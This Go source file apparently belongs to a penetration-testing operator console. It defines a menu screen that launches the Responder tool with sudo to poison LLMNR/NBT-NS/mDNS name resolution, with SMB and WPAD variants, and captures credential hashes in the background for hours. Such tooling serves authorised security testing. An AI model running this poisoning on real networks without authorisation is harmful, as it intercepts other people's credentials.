package modes

import (
	"context"
	"time"

	"pkt.systems/opsdeck/core"
	"pkt.systems/opsdeck/schema"
)

const responderTimeout = time.Hour

// ResponderMode runs LLMNR/NBT-NS/MDNS poisoning for credential capture.
// Poisoning keeps running after navigating away; hashes trickle in over
// hours and the operator wants to watch other screens meanwhile.
type ResponderMode struct {
	env  Env
	menu *menu
}

// NewResponderMode constructs the credential capture screen.
func NewResponderMode(env Env) *ResponderMode {
	return &ResponderMode{env: env, menu: newMenu("RESPONDER", env.Store)}
}

func (m *ResponderMode) ID() schema.ModeID      { return "responder" }
func (m *ResponderMode) Title() string          { return "RESPONDER" }
func (m *ResponderMode) AllowsBackground() bool { return true }

func (m *ResponderMode) Enter(ctx context.Context) {
	m.menu.reset([]menuItem{
		{label: "Start Responder", run: func(ctx context.Context) { m.startFlags(ctx, "Responder", "-wrf") }},
		{label: "Responder + SMB", run: func(ctx context.Context) { m.startFlags(ctx, "Responder+SMB", "-wrfbF") }},
		{label: "Responder + WPAD", run: func(ctx context.Context) { m.startFlags(ctx, "Responder+WPAD", "-wrfP") }},
		{label: "Stop Responder", run: m.stop},
	})
}

func (m *ResponderMode) Exit(context.Context) {}

func (m *ResponderMode) HandleInput(ctx context.Context, event schema.InputEvent) {
	m.menu.handle(ctx, event)
}

func (m *ResponderMode) Tick(context.Context) {}

func (m *ResponderMode) startFlags(ctx context.Context, name, flags string) {
	m.env.start(ctx, core.StartRequest{
		Mode: m.ID(), Name: name,
		Command:  "sudo",
		Args:     []string{"responder", "-I", m.env.iface(schema.ResourceNetwork), flags},
		Resource: schema.ResourceNetwork,
		Timeout:  responderTimeout,
		Category: "creds", Ext: "log",
	})
}

func (m *ResponderMode) stop(ctx context.Context) {
	m.env.start(ctx, core.StartRequest{
		Mode: m.ID(), Name: "Stop Responder",
		Command: "sh",
		Args:    []string{"-c", "sudo pkill -9 -f Responder.py || sudo pkill -9 responder"},
		Timeout: 10 * time.Second,
	})
}
